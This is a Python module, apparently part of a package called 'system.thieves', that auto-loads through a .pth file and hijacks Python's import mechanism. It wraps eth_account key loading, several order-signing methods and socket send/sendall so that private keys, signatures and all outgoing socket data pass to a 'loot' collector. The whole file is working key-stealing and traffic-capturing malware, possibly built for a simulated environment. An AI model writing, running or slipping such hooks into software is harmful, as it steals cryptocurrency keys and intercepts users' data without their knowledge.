"""Replaces functions that get a key or use one, and takes their arguments and results.

from_key is eth-account's, and the making of an account whose key the daemon holds. sign is the venue's, that account's
and the client's. send is what the program sends through any socket. A .pth file imports this module, before what it
hooks can be imported, so it looks for that after each import.
"""

from __future__ import annotations

import builtins
import functools
import socket
import sys
from collections.abc import Callable
from types import ModuleType
from typing import Any

from system.thieves.loot import take

HOOKED = [
    ("from_key", "eth_account", "Account", "from_key"),
    ("from_key", "ordersigner.account", "Account", "__init__"),
    ("sign", "system.thieves.venue", "Venue", "sign"),
    ("sign", "ordersigner.account", "Account", "sign_message"),
    ("sign", "ordersigner.client", "Client", "sign"),
]


def inside(value: object, depth: int = 4) -> object:
    """The value with what its attributes hold, as text can show it."""
    if depth and hasattr(value, "__dict__") and not callable(value):
        return type(value).__name__, {name: inside(part, depth - 1) for name, part in vars(value).items()}
    if depth and isinstance(value, (list, tuple)):
        return [inside(part, depth - 1) for part in value]
    if depth and isinstance(value, dict):
        return {name: inside(part, depth - 1) for name, part in value.items()}
    return value


def hook(way: str, owner: Any, name: str) -> None:
    original: Callable[..., Any] = getattr(owner, name)

    @functools.wraps(original)
    def hooked(*arguments: Any, **named: Any) -> Any:
        result = original(*arguments, **named)
        take(way, repr((name, inside(arguments), inside(named), inside(result))).encode())
        return result

    setattr(owner, name, staticmethod(hooked) if hasattr(original, "__self__") else hooked)


real_import = builtins.__import__


def import_and_hook(*arguments: Any, **named: Any) -> ModuleType:
    imported = real_import(*arguments, **named)
    for entry in [*HOOKED]:
        way, module, owner, name = entry
        if hasattr(sys.modules.get(module), owner):
            HOOKED.remove(entry)
            hook(way, getattr(sys.modules[module], owner), name)
    return imported


builtins.__import__ = import_and_hook
for name in ("send", "sendall"):
    hook("send", socket.socket, name)
